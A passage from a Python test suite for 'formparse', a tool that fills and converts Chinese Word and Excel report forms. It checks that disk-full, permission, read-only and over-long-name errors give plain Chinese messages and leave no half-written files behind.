    tpl = _rewrite(template_path(suffix), tmp_path / name, edit)
    out = tmp_path / f"out{suffix}"
    with pytest.raises(CannotFill, match=words):
        formparse.fill(base_record(), out, tpl)
    assert not out.exists()


def test_hyperlink_fields_and_clean_templates_are_fine(tmp_path):
    tpl = _rewrite(template_path(".docx"), tmp_path / "link.docx", _docx_body(
        b'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;http://x/&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'))
    formparse.fill(base_record(), tmp_path / "a.docx", tpl)
    for sub in sorted((ROOT / "samples" / "submissions").glob("*.[dx][ol][cs]x")):
        formparse.fill(formparse.read(sub), tmp_path / f"back-{sub.name}", sub)


@pytest.mark.parametrize(("suffix", "template", "main"), [(".docx", ".dotx", b"wordprocessingml.document.main+xml"),
                                                       (".xlsx", ".xltx", b"spreadsheetml.sheet.main+xml")])
def test_a_template_file_gives_its_document_content_type(tmp_path, suffix, template, main):
    def as_template(items):
        items["[Content_Types].xml"] = items["[Content_Types].xml"].replace(
            main, main.replace(b".document.main", b".template.main").replace(b".sheet.main", b".template.main"))

    tpl = _rewrite(template_path(suffix), tmp_path / f"t{template}", as_template)
    out = formparse.fill(base_record(), tmp_path / f"out{suffix}", tpl)
    with zipfile.ZipFile(out) as zf:
        types = zf.read("[Content_Types].xml")
    assert main in types and b"template.main" not in types
    assert formparse.read(out).unit_name == base_record().unit_name


# -- 5. file-system errors in plain words -----------------------------------------------------------------

@pytest.mark.parametrize(("code", "words"), [(errno.ENOSPC, "磁盘空间已满"), (errno.EROFS, "只读"),
                                             (errno.EACCES, "没有权限")])
@pytest.mark.parametrize("suffix", [".xlsx", ".docx"])
def test_fill_reports_file_system_faults_in_plain_words(tmp_path, monkeypatch, code, words, suffix):
    def fail(*_a, **_k):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, "link", fail)
    out = tmp_path / f"out{suffix}"
    with pytest.raises(CannotWrite, match=words) as info:
        formparse.fill(base_record(), out)
    assert str(out) in str(info.value)
    assert list(tmp_path.iterdir()) == []  # the temporary file went too


@pytest.mark.parametrize(("name", "fmt"), FORMATS)
def test_convert_reports_a_full_disk_in_plain_words(tmp_path, monkeypatch, name, fmt):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(inbox / "a.xlsx")

    def full(*_a, **_k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(atomic.os, "link", full)
    out = tmp_path / "o" / name
    result = CliRunner().invoke(cli, ["convert", str(inbox), "-o", str(out), "--workers", "0", "--format", fmt])
    assert result.exit_code == 1 and "磁盘空间已满" in result.output and "Traceback" not in result.output
    assert sorted(p.name for p in (tmp_path / "o").iterdir()) in ([], ["out"])


_FSIZE = """
import resource, runpy, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG, as on a full disk
limit = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
sys.argv = ["formparse", *sys.argv[2:]]
runpy.run_module("formparse", run_name="__main__")
"""


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs RLIMIT_FSIZE")
@pytest.mark.parametrize("limit", [1_000, pytest.param(9_000, marks=pytest.mark.slow)])
def test_a_write_that_fails_midway_is_plain_words_in_every_writer(tmp_path, limit):
    # every file the process writes is cut at ``limit`` bytes (RLIMIT_FSIZE): openpyxl's and lxml's, pyarrow's
    # and the csv module's writes fail inside those libraries, not in ours
    inbox = ROOT / "samples" / "submissions"
    record = tmp_path / "r.json"
    record.write_text(formparse.dumps(base_record(n_indicators=60)), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    cases = [["convert", str(inbox), "-o", str(out / "汇总.xlsx")], ["convert", str(inbox), "-o", str(out / "pq")],
             ["convert", str(inbox), "--format", "csv", "-o", str(out / "csv")],
             ["check", str(inbox), "-o", str(out / "问题.xlsx")],
             ["check", str(inbox), "--highlight", str(out / "标注")],
             ["fill", str(record), "-o", str(out / "a.xlsx")],
             ["fill", str(record), "-o", str(out / "a.docx")]]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    failed = 0
    for args in cases:
        workers = [] if args[0] == "fill" else ["--workers", "0"]
        done = subprocess.run([sys.executable, "-c", _FSIZE, str(limit), *args, *workers], capture_output=True,
                              text=True, env=env, cwd=ROOT, timeout=300)
        assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr, (args, done.stderr)
        if done.returncode != 0:
            failed += 1
            assert done.returncode == 1 and "无法写入：文件超过系统允许的大小" in done.stderr, (args, done.stderr)
            assert args[-1] in done.stderr
        elif limit == 1_000:
            raise AssertionError(f"{args} wrote more than {limit} bytes per file and did not fail")
    assert failed
    # nothing half-written is left: only complete outputs of the writers that succeeded
    for p in out.rglob("*"):
        assert not p.name.startswith("."), p
        if p.suffix == ".xlsx":
            openpyxl.load_workbook(p, read_only=True).close()
        elif p.suffix == ".parquet":
            pq.read_table(p)


@pytest.mark.skipif(os.geteuid() == 0, reason="root is never denied: the EACCES case above covers it by injection")
def test_a_folder_without_write_permission_is_named_in_plain_words(tmp_path):
    folder = tmp_path / "只读"
    folder.mkdir()
    record = tmp_path / "r.json"
    record.write_text(formparse.dumps(base_record()), encoding="utf-8")
    folder.chmod(0o555)
    try:
        result = CliRunner().invoke(cli, ["fill", str(record), "-o", str(folder / "x.xlsx")])
    finally:
        folder.chmod(0o755)
    assert result.exit_code == 1
    assert "没有权限" in result.output and "只读" in result.output and "Traceback" not in result.output


def _denied_cli() -> list[str] | None:
    """The command line to run formparse as someone the file system really denies (root, without the
    capabilities that override file permissions); None where that cannot be had."""
    if os.geteuid() != 0:
        return [sys.executable, "-m", "formparse"]
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return None
    cmd = [setpriv, "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search", sys.executable]
    probe = subprocess.run([*cmd, "-c", "import os; os.listdir('/proc/1/root')"], capture_output=True)
    return [*cmd, "-m", "formparse"] if probe.returncode != 0 else None


@pytest.mark.skipif(_denied_cli() is None, reason="cannot run without the right to override permissions")
def test_permission_denied_in_every_command_is_plain_words(tmp_path):
    run = _denied_cli()
    inbox, locked, ro = tmp_path / "inbox", tmp_path / "inbox" / "locked", tmp_path / "只读"
    locked.mkdir(parents=True)
    ro.mkdir()
    good = filled(inbox / "good.xlsx")
    noread = filled(inbox / "noread.xlsx")
    filled(locked / "inside.xlsx")
    record = tmp_path / "r.json"
    record.write_text(formparse.dumps(base_record()), encoding="utf-8")
    secret = tmp_path / "secret.json"
    secret.write_text(formparse.dumps(base_record()), encoding="utf-8")
    for p in (noread, secret):
        p.chmod(0)
    locked.chmod(0)
    ro.chmod(0o555)
    schema = sorted((ROOT / "schemas").glob("*.toml"))[0]
    cases = [  # (arguments, words, path named)
        (["parse", str(noread)], "没有权限", noread),
        (["fill", str(secret), "-o", str(tmp_path / "a.xlsx")], "没有权限", secret),
        (["fill", str(record), "-o", str(tmp_path / "b.xlsx"), "--template", str(noread)], "没有权限", noread),
        (["fill", str(record), "-o", str(ro / "x.xlsx")], "没有权限", ro / "x.xlsx"),
        (["convert", str(inbox), "-o", str(ro / "x.xlsx"), "--workers", "0"], "没有权限", ro / "x.xlsx"),
        (["convert", str(inbox), "-o", str(ro / "sub"), "--workers", "0"], "没有权限", ro / "sub"),
        (["check", str(noread)], "没有权限", noread.name),
        (["check", str(inbox), "-o", str(ro / "q.xlsx"), "--workers", "0"], "没有权限", ro / "q.xlsx"),
        (["schema", "draft", str(noread), "-o", str(tmp_path / "s.toml")], "没有权限", noread),
        (["schema", "check", str(schema), str(noread)], "没有权限", noread),
    ]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    try:
        for args, words, named in cases:
            done = subprocess.run([*run, *args], capture_output=True, text=True, env=env, cwd=ROOT, timeout=120)
            said = done.stdout + done.stderr
            assert done.returncode == 1, (args, said)
            assert words in said and str(named) in said and "Traceback" not in said and "用法" not in said, (args, said)
        out = tmp_path / "summary.xlsx"
        done = subprocess.run([*run, "convert", str(inbox), "-o", str(out), "--workers", "0"], capture_output=True,
                              text=True, env=env, cwd=ROOT, timeout=120)
        assert done.returncode == 1 and "Traceback" not in done.stderr
    finally:
        for p in (noread, secret):
            p.chmod(0o644)
        locked.chmod(0o755)
        ro.chmod(0o755)
    wb = openpyxl.load_workbook(out, read_only=True)
    rows = list(wb.worksheets[-1].values)[1:]  # 问题文件: 文件, 问题类型, 说明
    wb.close()
    problems = {r[0]: r[2] for r in rows}
    assert set(problems) == {"locked/", "noread.xlsx"} and all("没有权限" in m for m in problems.values())
    assert good.is_file() and not list(ro.iterdir())


def test_careless_output_names_are_refused_in_words(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(inbox / "a.xlsx")
    record = tmp_path / "r.json"
    record.write_text(formparse.dumps(base_record()), encoding="utf-8")
    a_file = tmp_path / "a-file"
    a_file.write_bytes(b"mine")
    long = tmp_path / ("长" * 100)
    runner = CliRunner()
    convert_args = ["convert", str(inbox), "--workers", "0", "-o"]
    for name in ("", "-", str(tmp_path / ".xlsx")):  # the current folder, standard output, a hidden folder
        assert runner.invoke(cli, [*convert_args, name]).exit_code == 2
    cases = [  # (arguments, words)
        ([*convert_args, str(a_file / "out.xlsx")], "不是文件夹"),
        ([*convert_args, str(a_file), "--force"], "不是文件夹"),  # --force replaces files, not a file by a folder
        ([*convert_args, f"{long}.xlsx"], "文件名过长"), ([*convert_args, str(long)], "文件名过长"),
        (["convert", str(long), "-o", str(tmp_path / "x.xlsx")], "文件名过长"),
        (["fill", str(record), "-o", str(a_file / "x.docx")], "不是文件夹"),
        (["fill", str(record), "-o", f"{long}.docx"], "文件名过长"),
        (["fill", f"{long}.json", "-o", str(tmp_path / "y.xlsx")], "文件名过长"),
        (["parse", f"{long}.xlsx"], "文件名过长"), (["check", str(long)], "文件名过长"),
        (["check", str(inbox), "-o", f"{long}.xlsx"], "文件名过长"),
    ]
    for args, words in cases:
        result = runner.invoke(cli, args)
        assert result.exit_code == 1 and words in result.output, (args, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exception)
    assert a_file.read_bytes() == b"mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file", "inbox", "r.json"]


def test_cli_shows_an_undecodable_output_name(tmp_path):
    out = gbk_name(tmp_path)
    filled(out)
    record = tmp_path / "r.json"
    record.write_text(formparse.dumps(base_record()), encoding="utf-8")
    result = CliRunner().invoke(cli, ["fill", str(record), "-o", os.fsdecode(out)])
    assert result.exit_code == 1 and "已存在" in result.output
    shutil.rmtree(tmp_path)


def test_check_never_replaces_its_report_or_a_submission(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    rec = base_record()
    rec.income.total = Decimal("1")  # a sum that does not add up: a warning, so a marked copy is written
    sub = filled(inbox / "a.xlsx", rec)
    before = sub.read_bytes()
    report = tmp_path / "问题.xlsx"
    args = ["check", str(inbox), "--workers", "0", "-o", str(report)]
    CliRunner().invoke(cli, args)
    assert report.is_file()
    again = CliRunner().invoke(cli, args)
    assert again.exit_code == 1 and "已存在" in again.output and "Traceback" not in again.output
    # a report and marked copies inside the folder checked are written, and left out of the next read
    inside = CliRunner().invoke(cli, ["check", str(inbox), "--workers", "0", "-o", str(inbox / "问题.xlsx"),
                                      "--highlight", str(inbox / "标注")])
    assert inside.exit_code == 0 and "Traceback" not in inside.output, inside.output
    assert (inbox / "问题.xlsx").is_file() and (inbox / "标注" / "a.xlsx").is_file()
    assert _read_files(inbox) == ["a.xlsx"]
    # marked copies would land on the submissions themselves: each is refused, the submission kept
    marked = CliRunner().invoke(cli, ["check", str(inbox), "--workers", "0", "--highlight", str(inbox)])
    assert marked.exit_code == 1 and "已存在" in marked.output and "Traceback" not in marked.output
    assert sub.read_bytes() == before and sorted(p.name for p in inbox.iterdir()) == ["a.xlsx", "标注", "问题.xlsx"]


_CAPPED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (2 * 2**30, 2 * 2**30))
sys.path.insert(0, sys.argv[2])
import formparse
from tests.outputkit import base_record
out = formparse.fill(base_record(), sys.argv[1] + ".out.xlsx", sys.argv[1])
print(formparse.read(out).unit_name)
"""


@pytest.mark.slow
def test_a_template_with_a_million_shared_strings_fills_within_the_memory_cap(tmp_path):
    from tests.outputkit import many_strings

    tpl = many_strings(tmp_path / "strings.xlsx", 1_000_000)
    proc = subprocess.run([sys.executable, "-c", _CAPPED, str(tpl), str(ROOT)], capture_output=True, text=True,
                          timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert proc.stdout.strip() == base_record().unit_name


def test_a_folder_output_is_published_all_or_nothing(tmp_path, monkeypatch):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(inbox / "a.xlsx")
    out = tmp_path / "out"
    real = atomic.publish

    def late_rival(tmp, dst, *, overwrite=False):
        if Path(dst).name == "reviews.parquet":  # another run wrote this one a moment ago
            Path(dst).write_bytes(b"rival")
        return real(tmp, dst, overwrite=overwrite)

    monkeypatch.setattr("formparse.export.publish", late_rival)
    with pytest.raises(CannotWrite, match="另一个进程") as info:
        convert(inbox, out, fmt="parquet", labels="en", workers=0)
    assert info.value.path == str(out / "reviews.parquet")  # the output named, not our temporary name
    assert sorted(p.name for p in out.iterdir()) == ["reviews.parquet"]  # the rival's file, nothing of ours
    assert sorted(p.name for p in tmp_path.iterdir()) == ["inbox", "out"]  # no temporary folder left
    assert (out / "reviews.parquet").read_bytes() == b"rival"


# -- 4. a writer linear in the form -----------------------------------------------------------------------

def test_content_below_the_form_survives_a_fill_and_moves_with_its_rows(tmp_path):
    """The writer's second look at the sheet stops a little past the form (benchmarks/bench_write.py): what
    lies below is still copied, its merges and rows moved down by the rows the fill added."""
    import re

    from tests.outputkit import many_merges

    tpl = many_merges(tmp_path / "merges.xlsx", 2000)  # rows 200-1199, two merged ranges each
    rec = base_record(n_goals=3, n_indicators=40)
    out = formparse.fill(rec, tmp_path / "out.xlsx", tpl)
    assert formparse.read(out).indicators == rec.indicators
    with zipfile.ZipFile(out) as zf:
        after = zf.read("xl/worksheets/sheet1.xml").decode()
    # (row 200's “x” is read as 填报人's value, far below its label, and so written over: rows from 201 on)
    rows = [int(r) for r, body in re.findall(r'<row r="(\d+)"[^>]*>(.*?)</row>', after) if "<t>x</t>" in body]
    shift = rows[0] - 201
    assert shift > 0 and rows == list(range(201 + shift, 1200 + shift))
    ranges = {int(r) for r in re.findall(r'<mergeCell ref="[AC](\d+):[BD]\1"/>', after)}
    assert set(range(201 + shift, 1200 + shift)) <= ranges
